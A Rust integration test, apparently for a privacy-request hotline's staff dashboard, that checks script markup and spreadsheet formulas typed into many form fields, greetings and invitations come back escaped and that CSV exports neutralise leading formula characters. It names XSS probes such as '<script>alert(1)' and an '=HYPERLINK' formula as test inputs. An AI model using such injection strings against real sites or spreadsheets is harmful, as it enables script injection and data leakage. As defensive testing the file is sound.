    let invited = [("name", MARKUP), ("email", colleague.as_str()), ("role", "agent")];
    let seen = owner.submit(&page, &["do", "email"], &invited).await;
    assert!(seen.target.ends_with("done=invited"), "{}", seen.text());
    let page = owner.get(&format!("/dashboard/service-code/{code}")).await;
    let renamed = format!("{MARKUP} again");
    is_text(&owner.submit(&page, &["version", "name"], &[("name", &renamed)]).await);
    let page = owner.get(&format!("/dashboard/greeting/{code}?language=en")).await;
    is_text(&owner.submit(&page, &["do", "text"], &[("text", &format!("Hello <b>{MARKUP}</b> & you."))]).await);
    let mut next = Script::new(answers::request(Language::English, Some(&code), Kind::OptOut));
    let heard = hotline.call(&caller(9), &mut next).await;
    assert!(heard.reference_number().is_some() && heard.heard("Hello <b>"), "{heard}");

    // Whatever is wrong comes back in its field, and does not run there.
    for (target, names) in [
        ("/dashboard/account", &["name", "hour"][..]),
        ("/dashboard/settings", &["version", "time-zone"]),
        ("/dashboard/team", &["do", "email"]),
        ("/dashboard/new-request", &["id", "received"]),
        ("/dashboard/service-code/new", &["code", "name"]),
        ("/dashboard/export", &["from", "to"]),
        ("/dashboard/requests", &["q"]),
        ("/dashboard/factors", &["secret", "code"]),
        ("/dashboard/confirm", &["password"]),
    ] {
        let page = owner.get(target).await;
        let form = page.form(names);
        let long = format!("{MARKUP}{}", "x".repeat(6_000));
        for text in [MARKUP, FORMULA, long.as_str()] {
            let typed: Vec<(&str, &str)> = form
                .fields
                .iter()
                .map(|(name, _)| name.as_str())
                .filter(|name| !matches!(*name, "csrf" | "id" | "version" | "do"))
                .map(|name| (name, text))
                .collect();
            is_text(&owner.send_form(&form, &typed).await);
        }
    }

    // Then every page that anybody can open.
    for reference in [&reference, &letter] {
        for (method, path, asks) in ROOMS {
            let is_file = path.contains("{ticket}") || path.contains("/record/") || path.ends_with("/statement");
            // A meter event has nothing that a consumer said.
            if *method == "GET" && asks.is_some() && !is_file && !path.contains("{line}") {
                let seen = owner.get(&path.replace("{reference}", reference).replace("{code}", &code)).await;
                assert_eq!(
                    (seen.status(), seen.path() == "/dashboard/sign-in"),
                    (200, false),
                    "{path}: {}",
                    seen.text()
                );
                is_text(&seen);
            }
        }
    }
    for target in [
        "/dashboard/requests?state=closed",
        "/dashboard/requests?assignee=nobody",
        "/dashboard/audit?act=invited",
        "/dashboard/report?scope=all",
        "/dashboard/report?scope=california",
    ] {
        is_text(&owner.get(target).await);
    }
    let page = owner.get(&request).await;
    assert!(page.text().contains("&lt;script&gt;alert(1)"), "what was spoken is there, as text: {}", page.text());
    assert!(Reference::parse(&reference).is_ok());

    // Files: nothing begins a formula, and nothing is shown as a page.
    let page = owner.get("/dashboard/export").await;
    let file = owner.submit(&page, &["from", "to"], &[("contacts", "on")]).await;
    assert_eq!(file.answer.header("content-type"), Some("text/csv; charset=utf-8"));
    let mut csv = String::new();
    GzDecoder::new(file.answer.body.as_slice()).read_to_string(&mut csv).unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    for cell in csv.lines().flat_map(|line| line.split(',')) {
        let written = cell.trim_start_matches('"');
        assert!(!written.starts_with(['=', '+', '-', '@', '\t']), "{written} in {csv}");
    }
    for (format, kind) in [("json", "application/json"), ("csv", "text/csv; charset=utf-8")] {
        for target in
            [format!("/dashboard/report?scope=all&format={format}"), format!("/dashboard/request-log?format={format}")]
        {
            let seen = owner.get(&target).await;
            assert_eq!((seen.status(), seen.answer.header("content-type")), (200, Some(kind)), "{target}");
            let disposition = seen.answer.header("content-disposition").unwrap_or_default();
            assert!(disposition.starts_with("attachment;"), "{target}: {disposition}");
        }
    }

    // And the mail to whoever was invited by somebody of such a name.
    let (link, html) = eventually("the invitation's mail", async || {
        let (_, text) = hotline.mails(&colleague).await.into_iter().next()?;
        let at = text.find("/dashboard/invitation/")?;
        let link = text[at..].split_whitespace().next()?.to_owned();
        Some((link, hotline.mails_html(&colleague).await.concat()))
    })
    .await;
    assert!(
        html.contains("/dashboard/invitation/") && !html.contains("<script>alert") && !html.contains("<img src=x"),
        "{html}"
    );
    is_text(&Person::new(&hotline).get(&link).await);
}
